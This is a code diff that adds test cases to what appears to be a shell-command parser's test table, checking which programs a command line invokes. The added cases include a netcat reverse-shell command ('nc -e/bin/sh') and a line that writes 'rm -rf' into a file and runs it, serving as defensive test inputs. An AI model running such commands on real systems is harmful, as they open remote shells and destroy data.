@@ -93,6 +93,9 @@ UNKNOWN_PROGRAMS: list[tuple[str, set[str | None]]] = [
     ("frob sudo ls", {None}),
     ('frob "$X"', {None}),
     ("frob $X", {None}),
+    ("frob -crm x", {"rm"}),  # -c with rm attached
+    ("nc -e/bin/sh h 1", {None}),
+    ("echo rm -rf x > f; frob f", {None}),  # a name may be a file it runs
     ('frob "$D/rm"', {"rm"}),
     ("frob $'a\nb('", {None}),  # several lines the grammar cannot read
 ]
